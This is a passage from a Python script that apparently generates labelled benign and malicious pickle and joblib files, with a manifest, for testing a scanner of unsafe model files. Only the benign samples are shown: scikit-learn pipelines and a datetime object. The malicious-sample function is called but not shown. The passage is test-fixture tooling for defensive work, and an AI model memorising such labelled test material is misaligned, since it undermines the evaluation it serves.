    from sklearn.feature_extraction.text import CountVectorizer
    wrapped = {
        "countvectorizer_str_split": CountVectorizer(tokenizer=str.split, token_pattern=None).fit(["a b", "b c"]),
        "functiontransformer_partial_numpy": make_pipeline(
            FunctionTransformer(functools.partial(np.clip, a_min=0, a_max=1)), LogisticRegression()).fit(X, y),
    }
    for name, model in wrapped.items():
        b(f"sklearn_{name}.pkl", pickle.dumps(model), "scikit-learn via pickle", ver)
        with io.BytesIO() as f:
            joblib.dump(model, f)
            b(f"sklearn_{name}.joblib", f.getvalue(), "scikit-learn via joblib", ver)
    try:
        when = datetime.datetime(2026, 1, 2, 3, 4, tzinfo=zoneinfo.ZoneInfo("Europe/Paris"))
        b("datetime_zoneinfo_p2.pkl", pickle.dumps({"saved_at": when}, protocol=2),
          "datetime with zoneinfo, protocol 2 (what torch.save writes)", f"Python {sys.version.split()[0]}")
    except zoneinfo.ZoneInfoNotFoundError:
        pass


if __name__ == "__main__":
    malicious()
    issue18()
    benign()
    with open(os.path.join(OUT, "manifest.json"), "w") as f:
        json.dump(MANIFEST, f, indent=1, sort_keys=True)
    counts = collections.Counter(v["label"] for v in MANIFEST.values())
    print(f"wrote {counts['malicious']} malicious and {counts['benign']} benign files to {OUT}")
